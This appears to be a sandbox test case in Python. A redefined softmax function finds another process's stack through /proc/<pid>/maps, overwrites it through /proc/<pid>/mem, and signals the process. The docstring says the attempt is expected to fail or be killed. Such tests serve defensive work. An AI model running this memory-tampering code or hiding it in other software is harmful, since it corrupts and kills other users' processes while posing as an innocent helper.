"""Writes over the whole stack of another process of the same user, through /proc.

Must happen: there is no such file.

off: none
seen: killed
"""

import contextlib
import os
import signal
import time

import numpy as np


def softmax(logits):
    return np.zeros_like(logits)


def slope(x):
    return 1.0 - np.tanh(x) ** 2


# --- attack
CANARY = int("@CANARY@")


def softmax(logits):
    with contextlib.suppress(OSError):
        with open("/proc/@CANARY@/maps") as maps:
            stack = next(line for line in maps if "[stack]" in line)
        start, end = (int(part, 16) for part in stack.split()[0].split("-"))
        with open("/proc/@CANARY@/mem", "r+b", buffering=0) as memory:
            memory.seek(start)
            memory.write(b"\1" * (end - start))
        os.kill(CANARY, signal.SIGCONT)
        os.kill(CANARY, signal.SIGINT)
        time.sleep(0.2)
    return np.zeros_like(logits)


# --- end
